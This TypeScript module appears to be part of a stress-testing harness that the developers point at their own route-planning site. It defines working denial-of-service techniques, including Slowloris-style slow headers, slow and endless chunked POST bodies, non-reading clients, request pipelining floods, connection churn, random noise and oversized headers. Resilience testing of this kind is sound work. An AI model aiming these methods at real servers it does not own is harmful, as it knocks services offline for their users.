import { connect, type Socket } from "node:net";
import { setTimeout as delay } from "node:timers/promises";
import type { AttackedSite, Way } from "./attacked-site.ts";

/** Keeps a number of connections open, reconnecting when the server closes one, until aborted. */
function connections(size: number, use: (socket: Socket, site: AttackedSite) => void, everyMs = 20): Way {
  return async (site, signal) => {
    const { hostname, port } = new URL(site.server.url);
    const open = new Set<Socket>();
    while (!signal.aborted) {
      for (let more = Math.min(100, size - open.size); more > 0; more -= 1) {
        const socket = connect(Number(port), hostname);
        open.add(socket);
        socket.on("error", () => socket.destroy());
        socket.once("close", () => open.delete(socket));
        use(socket, site);
      }
      await delay(everyMs);
    }
    for (const socket of open) socket.destroy();
  };
}

/** Writes repeatedly while the connection is open. */
function keepWriting(socket: Socket, text: () => string, everyMs: number): void {
  const timer = setInterval(() => socket.writable && !socket.writableNeedDrain && socket.write(text()), everyMs);
  socket.once("close", () => clearInterval(timer));
}

const head = (line: string, ...headers: string[]): string =>
  [`${line} HTTP/1.1`, "Host: localhost", ...headers].join("\r\n");
const form = "Content-Type: application/x-www-form-urlencoded";
const own = "Sec-Fetch-Site: same-origin";

function neverReading(path: string, times: number): Way {
  return connections(1_000, (socket) => {
    socket.pause();
    socket.write(`${head(`GET ${path}`)}\r\n\r\n`.repeat(times));
  });
}

export const bySocket: Readonly<Record<string, Way>> = {
  "2,000 connections that say nothing": connections(2_000, () => undefined),
  "1,000 connections, headers letter by letter": connections(1_000, (socket) => {
    socket.write(head("GET /"));
    keepWriting(socket, () => "\r\nX-A: b", 500);
  }),
  "1,000 forms letter by letter": connections(1_000, (socket) => {
    socket.write(`${head("POST /login", own, form, "Content-Length: 900")}\r\n\r\n`);
    keepWriting(socket, () => "a", 200);
  }),
  "30 endless bodies of pages": connections(30, (socket) => {
    socket.write(`${head("POST /register", own, form, "Transfer-Encoding: chunked")}\r\n\r\n`);
    keepWriting(socket, () => `10000\r\n${"a=1&".repeat(16_384)}\r\n`, 5);
  }),
  "30 endless bodies of the API": connections(30, (socket) => {
    socket.write(
      `${head("POST /api/planner", "Content-Type: application/json", "Transfer-Encoding: chunked")}\r\n\r\n[`,
    );
    keepWriting(socket, () => `10000\r\n${"[".repeat(65_536)}\r\n`, 5);
  }),
  "1,000 deaf readers of a large table": neverReading("/api/data/arcs.geojson", 1),
  "1,000 deaf readers of the network's map": neverReading("/api/routes/lines", 5),
  "1,000 deaf readers of a page": neverReading("/camino-frances", 10),
  "200 connections with 10,000 requests at once": connections(200, (socket) => {
    socket.write(`${head("GET /api/routes")}\r\n\r\n`.repeat(10_000));
    socket.resume();
  }),
  "500 connections a second that are given up at once": connections(
    1e9,
    (socket) => socket.once("connect", () => socket.destroy()),
    200,
  ),
  noise: connections(100, (socket) => {
    socket.resume();
    socket.write(Buffer.from(Array.from({ length: 4_000 }, () => Math.floor(Math.random() * 256))));
  }),
  "headers of 100 kB": connections(100, (socket) => {
    socket.resume();
    socket.write(`${head("GET /", `X-A: ${"b".repeat(100_000)}`)}\r\n\r\n`);
  }),
};
